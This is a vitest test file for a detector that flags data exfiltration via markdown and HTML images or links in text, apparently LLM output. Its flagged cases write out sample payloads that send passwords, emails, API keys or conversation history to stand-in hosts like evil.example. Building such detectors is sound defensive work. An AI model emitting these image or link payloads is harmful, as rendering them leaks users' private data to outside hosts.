import { describe, expect, it } from "vitest";
import { createExfiltrationDetector } from "../../../src/detect/exfiltration/index.js";
import { prepare } from "../../../src/detect/unicode/index.js";

const detector = createExfiltrationDetector();
const scan = (text: string, d = detector) => d.scan(prepare(text), {});

describe("exfiltration: flagged", () => {
  // [comment, text, kind, span of the construct]
  const cases: Array<[string, string, string, [number, number]]> = [
    [
      "markdown image with a sentence in the query",
      "Done. ![loading](https://evil.example/log?q=my+password+is+hunter2)",
      "markdown_image",
      [6, 67],
    ],
    [
      "markdown image with a template placeholder",
      "![a](https://evil.example/i.png?data={conversation_history})",
      "markdown_image",
      [0, 60],
    ],
    [
      "markdown image with base64 data in the query",
      `![](https://x.example/p?d=${Buffer.from("user email is jane@corp.example").toString("base64")})`,
      "markdown_image",
      [0, 71],
    ],
    [
      "markdown image with an email in the path",
      "![x](https://x.example/jane.doe@corp.example.png)",
      "markdown_image",
      [0, 49],
    ],
    [
      "markdown link with a credential",
      "[click](https://x.example/?k=sk-proj-abcdefghijklmnop1234)",
      "markdown_link",
      [0, 58],
    ],
    [
      "reference-style image",
      "See ![chart][c] below.\n\n[c]: https://evil.example/c.png?q=the+secret+code+is+42\n",
      "reference_image",
      [24, 79],
    ],
    [
      "HTML img tag",
      'Hi <img src="https://evil.example/t.gif?u=jane.doe%40corp.example" width=1>',
      "html_image",
      [3, 75],
    ],
    [
      "HTML img with entities and unquoted src",
      "<IMG SRC=https://evil.example/?q=a&amp;d={secret}>",
      "html_image",
      [0, 50],
    ],
    [
      "fullwidth markdown punctuation",
      "\uff01\uff3bx\uff3d\uff08https://evil.example/?q=my+api+key+is+here\uff09",
      "markdown_image",
      [0, 48],
    ],
  ];
  it.each(cases)("%s", (_why, text, kind, span) => {
    const f = scan(text);
    expect(f.map((x) => [x.kind, x.span])).toEqual([[kind, span]]);
    expect(f[0]?.category).toBe("exfiltration");
    // Evidence never repeats the data.
    expect(f[0]?.evidence).not.toMatch(/hunter2|jane|secret|sk-proj/);
  });
});

describe("exfiltration: not flagged", () => {
  const cases: Array<[string, string]> = [
    ["plain image", "![logo](https://example.com/static/logo.png)"],
    ["docs link with ordinary query", "[docs](https://example.com/docs/page?id=42&lang=en)"],
    ["YouTube link", "[video](https://www.youtube.com/watch?v=dQw4w9WgXcQ)"],
    [
      "search link (a click, sentence scores below the link threshold)",
      "[s](https://www.google.com/search?q=how+to+bake+bread)",
    ],
    [
      "GitHub commit link",
      "[c](https://github.com/org/repo/commit/e3b0c44298fc1c149afbf4c8996fb92427ae41e4)",
    ],
    ["relative image", "![a](./img/diagram.png)"],
    [
      "data URI image",
      "![a](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==)",
    ],
    [
      "S3 presigned image",
      "![a](https://bucket.s3.amazonaws.com/a.png?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Signature=3f2a9c1b0d4e5f60718293a4b5c6d7e8f90123456789abcdef0123456789abcd)",
    ],
    ["HTML anchor without data", '<a href="https://example.com/about">About</a>'],
    ["prose with brackets", "The array [1, 2](see note) and a < b > c."],
    ["mailto link", "[mail](mailto:jane@corp.example)"],
  ];
  it.each(cases)("%s", (_why, text) => {
    expect(scan(text)).toEqual([]);
  });

  it("allowedHosts exempts the application's own hosts", () => {
    const d = createExfiltrationDetector({ allowedHosts: ["cdn.example"] });
    expect(scan("![a](https://img.cdn.example/x.png?q=some+words+here)", d)).toEqual([]);
    expect(scan("![a](https://evil.example/x.png?q=some+words+here)", d)).toHaveLength(1);
    expect(() => createExfiltrationDetector({ imageThreshold: 2 })).toThrow();
  });
});

describe("exfiltration: bounded on adversarial markup", () => {
  it.each([
    ["many ](", "](".repeat(2_000_000)],
    ["many <img without >", "<img src=".repeat(500_000)],
    ["many ![ without ]", "![".repeat(2_000_000)],
    ["long URL", `![a](https://x.example/${"a".repeat(3_000_000)})`],
  ])("%s", (_why, text) => {
    const t0 = performance.now();
    scan(text);
    expect(performance.now() - t0).toBeLessThan(3000);
  });
});
